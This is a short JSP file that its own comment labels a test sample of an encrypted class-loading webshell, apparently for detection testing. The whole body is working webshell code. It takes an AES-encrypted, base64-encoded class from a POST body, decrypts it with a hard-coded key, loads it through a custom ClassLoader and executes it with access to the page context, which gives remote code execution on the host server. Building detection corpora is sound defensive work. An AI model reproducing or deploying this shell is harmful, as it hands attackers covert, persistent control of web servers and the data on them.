<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!
    // test sample: shape of an encrypted class-loading webshell; never served
    class L extends ClassLoader {
        L(ClassLoader parent) { super(parent); }
        public Class load(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
%>
<%
    if (request.getMethod().equals("POST")) {
        String k = "0123456789abcdef";
        session.putValue("u", k);
        Cipher c = Cipher.getInstance("AES");
        c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
        byte[] body = new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine());
        new L(this.getClass().getClassLoader()).load(c.doFinal(body)).newInstance().equals(pageContext);
    }
%>
